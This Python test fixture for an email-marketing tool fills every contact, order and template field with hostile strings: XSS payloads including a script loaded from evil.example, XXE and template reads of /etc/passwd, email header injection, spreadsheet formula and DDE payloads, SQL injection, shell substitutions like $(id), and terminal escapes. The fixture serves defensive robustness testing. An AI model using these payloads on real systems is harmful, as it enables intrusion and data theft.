"""What people and files may hold that is made to break out: strings for every way out, and a workspace full of them."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path

from mail_shop import NOW, mailflow
from mailflow.cli.main import run

# Each begins with a letter of its own or is what it is; none is made for one place alone.
MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe src='javascript:alert(1)'>", "</title><script>x</script>",
    "</style><script>x</script>", "</textarea><script>x</script>", "</pre></iframe><script>x</script>",
    "<style>*{display:none}</style>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><input name=card>", "<a href=https://evil.example>here</a>",
    '"><script>x</script>', "'><script>x</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    "x onclick=alert(1)", "`onclick=alert(1)`", "<!-- ", "-->", "--!><script>x</script>", "<![CDATA[x]]>",
    "<![endif]--><script>x</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&NewLine;&Tab;",
    "<mj-raw><script>x</script></mj-raw>", '"/><mj-image src="https://evil.example/x.png"/>', "</mj-text><mj-text>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "data:text/html,<script>x</script>", "vbscript:msgbox(1)",
    "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "@evil.example/", ".evil.example", "https:evil",
    "https://evil.example/?a=1&b=2#c", "mailto:evil@evil.example?bcc=all@evil.example", "%0d%0aBcc:%20x@evil.example",
)  # fmt: skip
STYLES = (
    "red;background:url(https://evil.example/x)", "expression(alert(1))", "url('javascript:x')", "}body{color:red",
    "a:b;c", "/*", "\\3c script\\3e",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "<https://evil.example/>", "**bold** _it_ `code`",
    "\n\n# heading\n\n- entry", "| a | b |\n|---|---|\n| c | d |", "> quote", "~~~\nx", "1. x", "[x]: https://evil.example",
    "https://evil.example/auto", "www.evil.example", "***", "a\\\nb  \nc",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{7*7}}", "{% include '/etc/passwd' %}", "{% for x in range(99) %}", "{# x #}", "{{ ''.__class__ }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0} %s %(x)s", "*|FNAME|*", "[[x]] {{{x}}}",
)  # fmt: skip
HEADERS = (
    "Eve\r\nBcc: evil@evil.example", "Eve\nBcc: evil@evil.example", "Eve\rBcc: evil@evil.example",
    "Eve\r\n\r\n<p>body</p>", "=?utf-8?q?a=0D=0ABcc=3A_evil=40evil=2Eexample?=", "=?utf-8?b?QmNjOiBl?=", "=?x?=",
    "evil@evil.example, x", '"Eve" <evil@evil.example>', "Eve <evil@evil.example>", "a;b:c,d", "(comment)", "x\\",
    '"', ".\r\nQUIT\r\n", "\r\n.\r\nMAIL FROM:<evil@evil.example>",
)  # fmt: skip
LETTERS = (
    "a\x00b", "a\x07\x08b", "a\x0b\x0cb", "a\x7f\x80\x9fb", "a\x85b", "a\u2028b\u2029c", "\u202egnp.exe",
    "a\u2066b\u2069", "a\u200bb\u200dc", "\ufeffa", "a\u00adb", "\u0301\u0301\u0301" * 20, "a\ufffeb\uffff", "\ud800x",
    "x\udfff",
    "\U000e0041\U000e0042", "Ａ＜ｓｃｒｉｐｔ＞", "\u115f\u3164", "ﷺ" * 20, "👩‍👩‍👧‍👦🏳️‍🌈", "İıſßﬀ", "а" * 3 + "pple",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x9b31m\x9d0;x\x9c", "\x1b[2J\x1b[H", "\x1b[6n\x1bc\x1bP$q\x1b\\", "a\rb\x08\x08c",
    "[bold]x[/bold]", "[link=https://evil.example]x[/link]", "[/]", "[red]", ":smile: [@click=x]y[/]", "\\[x]",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", '"=1+1', "+43 1 234", "-5", "-inf",
    "DDE(\"cmd\";\"/C calc\")", ";=1+1", ",=1+1", "|=1+1",
)  # fmt: skip
DATA = (
    '","x":"y', "\\u0022\\", "</script><!--", "]]>", "'; DROP TABLE contacts; --", "' OR '1'='1", "%_\\%", "NULL",
    "NaN", "null", "true", "0123", "1e999", "- x: y", "&a *a", "!!python/object:os.system x", "#", "@x", "key: [",
    "---", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT", "a,b;c\\n", "ATTACH;FMTTYPE=x:file:///etc/passwd", "../../../etc/passwd",
    "/etc/passwd", "C:\\x", "-rf", "--help", "$(id)", "`id`", "|id", "%n%s", "con", ".", "..",
)  # fmt: skip
LONG = ("x" * 3000, "word " * 600, "<b>" * 500, "[" * 500, "&amp;" * 300, "ä" * 998)

VECTORS = (
    *MARKUP, *LINKS, *STYLES, *MARKDOWN, *TEMPLATES, *HEADERS, *LETTERS, *TERMINAL, *FORMULAS, *DATA, *LONG,
)  # fmt: skip

SETTINGS = """\
name: Quitte
sender: {name: Quitte, email: hello@quitte.example}
address: 1 Long Lane, Springfield
url: https://shop.example
currency: EUR
timezone: Europe/Vienna
unsubscribe: {mailto: out@quitte.example}
fields: {favourite_tea: {type: text}}
limits: {per_day: null, per_week: null}
archive: {folder: archive, url: "https://www.quitte.example/mail"}
"""
_LETTER = """\
---
subject: "[[contact.first_name | truncate(200)]] of [[contact.city | truncate(200)]]"
preheader: "[[contact.last_name]] at [[contact.company]]"
from: "[[owner.name | truncate(200)]]"
attachments:
  - calendar:
      title: "[[contact.company]]"
      starts: "2026-04-01 18:00"
      place: "[[contact.city]]"
      description: "[[contact.favourite_tea]]"
      url: "https://shop.example/?[[contact.first_name | urlencode]]"
---
# [[contact.first_name]]

Dear **[[contact.last_name]]** of _[[contact.company]]_ in `[[contact.city]]`.

- [[contact.region]]
- [[contact.country]] [[contact.postcode]]

> [[contact.phone]] [[contact.favourite_tea]]

| a | b |
|---|---|
| [[contact.attributes.notes]] | {{ contact.tags | default([]) | join(", ") }} |

[[[contact.first_name]]]({{ shop.url }}/?q=[[contact.first_name]]#[[contact.city]])
[there]({{ shop.url }}/[[contact.city]]/x "[[contact.last_name]]")
<https://shop.example/[[contact.postcode]]>

{% for p in recommendations[:2] %}
**[{{ p.title }}]({{ p.url }})**: {{ p.reason }}
{% endfor %}

[[owner.name]] [[owner.phone]] [[owner.title]]

{% with text=contact.city | default('-'), author=contact.first_name | default('-') %}
{% include "mailflow/quote.html" %}
{% endwith %}
"""
# Each [[value]] is one that nobody need have.
TEMPLATE = re.sub(r"\[\[([\w.]+)(.*?)\]\]", r"{{ \1 | default('-')\2 }}", _LETTER)
HARMLESS = "plain"
# What no file brings in: such rows are rejects. Half a character cannot be written down, a NUL is told.
REFUSED = tuple(vector for vector in VECTORS if "\0" in vector or any("\ud800" <= sign <= "\udfff" for sign in vector))
TAKEN = (HARMLESS, *(vector for vector in VECTORS if vector not in REFUSED))


def address(number: int) -> str:
    """Return the address of the person who holds `TAKEN[number]`; it is theirs alone."""
    return f"{_LOCAL[number % len(_LOCAL)]}{number}@example.com"


# What may stand before the @ (RFC 5322 section 3.2.3) and means something elsewhere.
_LOCAL = ("v", "=1+", "+", "x-", "{{7*7}}", "*b*", "_i_", "#", "`id`", "$x", "'", "%0a", "a&b", "~", "/x/", "|x", "^")


def rows(vectors: Sequence[str] = TAKEN) -> dict[str, list[dict[str, object]]]:
    """Return rows of each kind of file, of which every text is hostile: row n holds vector n in all of its fields."""
    numbered = list(enumerate(vectors))
    named = "first_name last_name company phone city region country postcode".split()
    told = ["favourite tea", "notes", "source", "evidence"]
    return {
        "owners": [
            {"owner_id": f"o{n}", "email": f"o{n}@quitte.example", "name": f"{v} {n}", "phone": v, "title": v}
            for n, v in numbered
        ],
        "companies": [
            {"name": f"{v} {n}", "domain": f"d{n}.example", "industry": v, "size": v} for n, v in numbered
        ],
        "contacts": [
            {"email": address(n), "customer_id": f"c{n}", "owner": f"o{n}@quitte.example", "tags": [v, "x"],
             "consent": "yes", **dict.fromkeys([*named, *told], v)}
            for n, v in numbered
        ],
        "products": [
            {"product_id": f"{n} {v}", "sku": f"{n}/{v}", "title": f"{v} {n}", "url": f"https://shop.example/p/{n}",
             "image_url": "https://shop.example/x.png", "category": v, "vendor": v, "price": "5.00"}
            for n, v in numbered
        ],
        "orders": [
            {"order_id": f"{n} {bought} {v}", "email": address(n), "date": "2026-02-05", "total": "5.00",
             "item id": f"{bought} {vectors[bought]}", "item name": f"{v} {n}", "quantity": 1, "item price": "5.00"}
            for n, v in numbered
            for bought in (n, (n + 1) % len(vectors))
        ],
        "events": [
            {"event": "searched", "email": address(n), "occurred_at": "2026-03-01T10:00:00Z", "query": v, "page": v}
            for n, v in numbered
        ],
    }  # fmt: skip


def make_shop(root: Path) -> Path:
    """Make a workspace with a person for each vector, and mail to all of them as a rehearsal."""
    assert run(["init", str(root), "--quiet"]) == 0
    (root / "mailflow.yaml").write_text(SETTINGS, encoding="utf-8")
    for folder in ("campaigns", "templates"):
        for path in (root / folder).glob("*.*"):
            path.unlink()
    (root / "templates" / "news.md").write_text(TEMPLATE, encoding="utf-8")
    (root / "campaigns" / "news.yaml").write_text("audience: everyone\ntemplate: news\n", encoding="utf-8")
    (root / "in").mkdir()
    for noun, found in rows().items():
        path = root / "in" / f"{noun}.jsonl"
        path.write_text("".join(f"{json.dumps(row)}\n" for row in found), encoding="utf-8")
        assert mailflow(root, "import", str(path), "--as", noun, "--quiet", now=NOW) == 0
    assert mailflow(root, "score", "--quiet", now=NOW) == 0
    assert mailflow(root, "send", "news", "--yes", "--quiet", now=NOW) == 0
    return root
